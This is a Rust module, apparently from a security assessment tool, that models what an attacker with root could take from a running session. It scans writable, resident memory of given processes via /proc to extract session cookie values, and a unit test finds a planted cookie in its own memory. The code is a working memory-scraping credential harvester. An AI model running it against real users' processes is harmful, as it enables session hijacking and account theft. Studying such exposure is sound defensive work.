//! What somebody with root on the terminal could take out of a running session: the cookies in its memory.
//!
//! Duties: look, as an attacker would. Never: a way in that an attacker would not have.

use std::collections::BTreeSet;
use std::fs::{self, File};
use std::os::unix::fs::FileExt;

/// At most so many bytes are read at once.
const CHUNK: usize = 4 << 20;
/// Longest cookie that is looked for.
const LONGEST: usize = 4096;

/// Every value the cookie of this name has in the memory of these processes, the longest first. It may be written out in a
/// request that was sent (`name=value`) or stand in the browser's jar by itself; then `begin` is what its values begin with.
#[must_use]
pub fn cookies(pids: &[i32], name: &str, begin: &str) -> Vec<String> {
    let sent = after(pids, &format!("{name}="));
    let kept = after(pids, begin).into_iter().map(|rest| format!("{begin}{rest}"));
    sent.into_iter().chain(kept).collect()
}

/// What follows this text wherever it is in the memory of these processes, the longest first.
fn after(pids: &[i32], needle: &str) -> Vec<String> {
    let mut found = BTreeSet::new();
    for pid in pids {
        let Ok(memory) = File::open(format!("/proc/{pid}/mem")) else { continue };
        for (begin, end) in writable(*pid).into_iter().flat_map(|part| resident(*pid, part)) {
            search(&memory, begin, end, needle.as_bytes(), &mut found);
        }
    }
    let mut values: Vec<String> = found.into_iter().collect();
    values.sort_by_key(|value| std::cmp::Reverse(value.len()));
    values
}

/// The parts of a process' memory it may write to (proc(5), maps).
fn writable(pid: i32) -> Vec<(u64, u64)> {
    let maps = fs::read_to_string(format!("/proc/{pid}/maps")).unwrap_or_default();
    let part = |line: &str| {
        let (range, rest) = line.split_once(' ')?;
        let (begin, end) = range.split_once('-')?;
        let number = |text| u64::from_str_radix(text, 16).ok();
        rest.starts_with("rw").then_some((number(begin)?, number(end)?))
    };
    maps.lines().filter_map(part).collect()
}

/// The runs of pages of a part that are in memory (proc(5), pagemap): a script engine reserves many gigabytes and uses few.
fn resident(pid: i32, (begin, end): (u64, u64)) -> Vec<(u64, u64)> {
    let Ok(map) = File::open(format!("/proc/{pid}/pagemap")) else { return Vec::new() };
    let (page, mut runs, mut at) = (page_size(), Vec::<(u64, u64)>::new(), begin);
    let mut entries = vec![0; 1 << 16];
    while at < end {
        let want = usize::try_from((end - at) / page * 8).unwrap_or(usize::MAX).min(entries.len());
        let Ok(read @ 8..) = map.read_at(&mut entries[..want], at / page * 8) else { break };
        for entry in entries[..read].chunks_exact(8) {
            // Bit 63: present. It is in the last byte.
            if entry[7] & 0x80 != 0 {
                match runs.last_mut() {
                    Some(run) if run.1 == at => run.1 += page,
                    _ => runs.push((at, at + page)),
                }
            }
            at += page;
        }
    }
    runs
}

fn page_size() -> u64 {
    let own = fs::read_to_string("/proc/self/smaps").unwrap_or_default();
    let line = own.lines().find_map(|line| line.strip_prefix("KernelPageSize:"));
    line.and_then(|line| line.split_whitespace().next()?.parse().ok()).map_or(4096, |kib: u64| kib * 1024)
}

fn search(memory: &File, begin: u64, end: u64, needle: &[u8], found: &mut BTreeSet<String>) {
    let size = usize::try_from(end - begin).unwrap_or(usize::MAX);
    let mut buffer = vec![0; size.min(CHUNK + LONGEST)];
    let mut at = begin;
    while at < end {
        let want = usize::try_from(end - at).unwrap_or(usize::MAX).min(buffer.len());
        // A part that went away meanwhile is none of ours.
        let Ok(read @ 1..) = memory.read_at(&mut buffer[..want], at) else { return };
        let bytes = &buffer[..read];
        let mut from = 0;
        while let Some(hit) = bytes[from..].iter().position(|byte| *byte == needle[0]) {
            from += hit + 1;
            if !bytes[from..].starts_with(&needle[1..]) {
                continue;
            }
            from += needle.len() - 1;
            let value: Vec<u8> = bytes[from..].iter().copied().take_while(|byte| is_of_cookie(*byte)).collect();
            // Shorter ones are format strings and torn copies.
            if (16..LONGEST).contains(&value.len()) {
                found.insert(String::from_utf8_lossy(&value).into_owned());
            }
        }
        at += (read.saturating_sub(LONGEST)).max(1) as u64;
        if read < CHUNK {
            return;
        }
    }
}

/// RFC 6265, section 4.1.1, less the quotes.
const fn is_of_cookie(byte: u8) -> bool {
    matches!(byte, b'!' | b'#'..=b'+' | b'-'..=b':' | b'<'..=b'[' | b']'..=b'~')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cookie_in_ones_own_memory_is_found() {
        let name = ["thiefs", "test"].join("-");
        let kept = format!("{name}={}; path=/", "0123456789abcdef".repeat(2));
        let pid = i32::try_from(std::process::id()).unwrap();
        let found = cookies(&[pid], &name, "no such beginning");
        assert!(found.contains(&"0123456789abcdef".repeat(2)), "{found:?} {}", kept.len());
    }
}
